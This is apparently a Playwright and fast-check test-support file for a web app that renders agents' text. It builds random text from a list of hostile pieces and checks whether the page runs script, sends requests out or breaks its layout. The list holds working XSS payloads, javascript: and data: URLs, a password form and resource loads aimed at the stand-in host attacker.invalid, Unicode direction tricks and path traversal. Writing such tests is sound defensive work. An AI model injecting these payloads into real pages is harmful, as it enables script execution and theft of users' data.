import * as fc from "fast-check";
import type { Page } from "playwright-core";
import { arbitraryCharacter } from "../../../test/support/arbitrary-character.ts";
import { isLongRun } from "../../../test/support/count-runs.ts";

/** Pieces of markup, Markdown, URLs, and control characters that attack a page in known ways. */
export const HOSTILE_PIECES: readonly string[] = [
  `<script>window.taken = 1</script>`,
  `</script><script>window.taken = 2</script>`,
  `<img src=x onerror="window.taken = 3">`,
  `<svg onload="window.taken = 4"><a xlink:href="javascript:window.taken=5"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.taken = 6</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.taken=7&gt;">`,
  `[click](javascript:window.taken=8)`,
  `[click](JaVaScRiPt&colon;window.taken=16) <javascript:window.taken=17>`,
  `[data](data:text/html;base64,PHNjcmlwdD5vcGVuZXIudGFrZW49MTg8L3NjcmlwdD4=)`,
  `![image](https://attacker.invalid/pixel.png)`,
  `[![x](//attacker.invalid/p.gif "t")](vbscript:x)`,
  `[a]: https://attacker.invalid "x"`,
  `<form action="https://attacker.invalid"><input name=password><button>`,
  `<a href="data:text/html,<script>opener.taken=9</script>" target=_blank>x</a>`,
  `<base href="https://attacker.invalid/">`,
  `<style>* { background: url(https://attacker.invalid/style) }</style>`,
  `<div style="position:fixed;inset:0;background:url(https://attacker.invalid/a)" id="main" class="page-header">over</div>`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.invalid">`,
  `<object data="https://attacker.invalid"></object><embed src="https://attacker.invalid"><link rel=stylesheet href="https://attacker.invalid">`,
  `<link rel=dns-prefetch href="//attacker.invalid"><link rel=modulepreload href="https://attacker.invalid/m.js">`,
  `<video autoplay src=https://attacker.invalid/v onerror=window.taken=19><audio src=https://attacker.invalid/a autoplay>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="https://attacker.invalid/i.png"/><script>parent.taken=20</script><foreignObject><iframe src="javascript:parent.taken=21"></iframe></foreignObject></svg>`,
  `<details open ontoggle=window.taken=10>`,
  `<noscript><p title="</noscript><img src=x onerror=window.taken=11>">`,
  `\u202egnp.exe\u202c`,
  "\u2066\u0000\u001b[2J\u001b]8;;https://attacker.invalid\u0007",
  `\u200b\u200d\u2060\ufeff\u00ad\u180e`,
  `שלום עולם مرحبا \u202bעברית`,
  `Z\u0334\u0321\u035d\u030c${"\u0316".repeat(40)}algo`,
  "```html\n<img src=x onerror=window.taken=12>\n```",
  "| a |\n|---|\n| <img src=x onerror=window.taken=13> |",
  `<constructor>__proto__`,
  `__proto__`,
  `constructor`,
  `javascript:window.taken=14`,
  `data:text/html,<script>opener.taken=22</script>`,
  `//attacker.invalid/share`,
  `../../../etc/passwd\\..\\autorun.inf`,
  `\ud800`,
  `{{constructor.constructor("window.taken=15")()}}`,
  `"><img src=x onerror=window.taken=23>' onfocus=window.taken=24 autofocus x='`,
  "W".repeat(2_000),
  "long ".repeat(1_000),
];

/** A screen with one text takes seconds, so that the texts of a short run contain half of all pieces each. */
const PIECES_PER_EXAMPLE = isLongRun ? 6 : Math.ceil(HOSTILE_PIECES.length / 2);

/** Texts that together contain each hostile piece. */
export const EXAMPLES_OF_ALL_PIECES: readonly string[] = Array.from(
  { length: Math.ceil(HOSTILE_PIECES.length / PIECES_PER_EXAMPLE) },
  (_, index) => HOSTILE_PIECES.slice(index * PIECES_PER_EXAMPLE, (index + 1) * PIECES_PER_EXAMPLE).join("\n"),
);

/** Text of hostile pieces and random characters. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_PIECES) },
      fc.string({ maxLength: 12, unit: arbitraryCharacter }),
    ),
    { minLength: 1, maxLength: 5 },
  )
  .map((pieces) => pieces.join(""))
  .filter((text) => text.trim() !== "");

/** What a page with hostile content does. */
export interface HostilePageWatch {
  /** URLs of the requests that left the page. */
  sentUrls(): string[];
  readonly popups: readonly string[];
  /** Returns everything that shows that a text was treated as more than text. */
  findTakeovers(): Promise<string[]>;
}

/** Notes what a page does from now on: requests, and violations of its content security policy. */
export async function watchPage(page: Page): Promise<HostilePageWatch> {
  const sentUrls: string[] = [];
  // The browser reports a request that the policy of the page blocks as failed, without sending it.
  page.on(
    "requestfailed",
    (request) => request.failure()?.errorText === "csp" || sentUrls.push(request.url()),
  );
  page.on("requestfinished", (request) => sentUrls.push(request.url()));
  const popups: string[] = [];
  page.on("popup", (popup) => popups.push(popup.url()));
  await page.evaluate(`(() => {
    window.policyViolations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      window.policyViolations.push(event.effectiveDirective + " " + event.blockedURI + " " + event.sample));
  })()`);
  return {
    sentUrls: () => sentUrls.filter((url) => !/^(?:blob:|data:)/.test(url)),
    popups,
    findTakeovers: () => findTakeovers(page),
  };
}

/** Boxes that must contain the text of agents. */
const CONTAINERS =
  ".message, .artifact, .answer, .file, .virtual-row, .inspector, .agent-details, .agent-list li, .notice, .turn, .suggestions li, .flow-head, .page-header, td, th, button, .badge, .card-head, .content, .sample-head, #card, #picture";

async function findTakeovers(page: Page): Promise<string[]> {
  // A worker converts Markdown.
  await page.locator(".markdown[aria-busy]").first().waitFor({ state: "detached" });
  return await page.evaluate(`(() => {
    const found = new Set();
    if (window.taken !== undefined) found.add("script " + window.taken);
    for (const violation of window.policyViolations ?? []) found.add("policy " + violation);
    const directions = /[\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]/;
    for (const element of document.querySelectorAll("#app *")) {
      const name = element.localName;
      if (["script", "object", "embed", "base", "meta", "link", "style", "math", "foreignObject"].includes(name)) found.add(name);
      if (name === "iframe" && (element.getAttribute("sandbox") !== "" || !element.src.startsWith("blob:"))) found.add("iframe");
      if (["img", "video", "audio", "source"].includes(name) && !/^(blob|data):/.test(element.src)) found.add(name + " " + element.src);
      if (name === "a" && element.hasAttribute("href") && !/^(https?:|#)/.test(element.getAttribute("href"))) found.add("href " + element.getAttribute("href"));
      if (name === "a" && /^https?:/.test(element.getAttribute("href") ?? "") && !element.relList.contains("noopener")) found.add("rel");
      for (const { name: attribute, value } of element.attributes) {
        if (/^on/i.test(attribute)) found.add(attribute);
        if (/^(title|alt|aria-|placeholder)/.test(attribute) && directions.test(value)) found.add("direction in " + attribute + " of " + name + "." + element.className);
      }
      if (element.closest(".markdown") && (element.hasAttribute("style") || element.id !== "")) found.add("markdown attribute");
      if (element.closest(".markdown") && getComputedStyle(element).position !== "static") found.add("position of " + name);
    }
    if (document.querySelectorAll("#main").length !== 1) found.add("id");
    if (directions.test(document.body.innerText)) {
      const elements = [...document.querySelectorAll("#app *")];
      const last = elements.findLast((element) => directions.test(element.textContent));
      found.add("direction in " + (last?.outerHTML ?? document.body.innerText).slice(0, 300));
    }
    const root = document.scrollingElement;
    if (root.scrollWidth > root.clientWidth) found.add("the page is wider than its window");
    const clips = (style) => style.overflowX !== "visible" || /strict|content|paint/.test(style.contain);
    for (const container of document.querySelectorAll("${CONTAINERS}")) {
      const outer = container.getBoundingClientRect();
      if (outer.width === 0 || clips(getComputedStyle(container))) continue;
      for (const element of container.querySelectorAll("*")) {
        if (element.closest("svg, dialog, .screen-reader-only, .virtual-rows")) continue;
        let { left, right } = element.getBoundingClientRect();
        if (left === right) continue;
        for (let parent = element.parentElement; parent !== container; parent = parent.parentElement) {
          if (!clips(getComputedStyle(parent))) continue;
          const box = parent.getBoundingClientRect();
          left = Math.max(left, box.left);
          right = Math.min(right, box.right);
        }
        if (left < right && (left < outer.left - 1 || right > outer.right + 1))
          found.add(element.localName + "." + element.className + " leaves " + container.localName + "." + container.className + " by " + Math.round(Math.max(outer.left - left, right - outer.right)) + " px");
      }
    }
    const link = document.querySelector(".page-header nav a");
    const box = link.getBoundingClientRect();
    const top = document.elementFromPoint(box.left + 4, box.top + box.height / 2);
    if (top !== link && !link.contains(top) && document.querySelector("dialog[open]") === null) found.add("something covers the navigation: " + top?.outerHTML.slice(0, 100));
    return [...found];
  })()`);
}
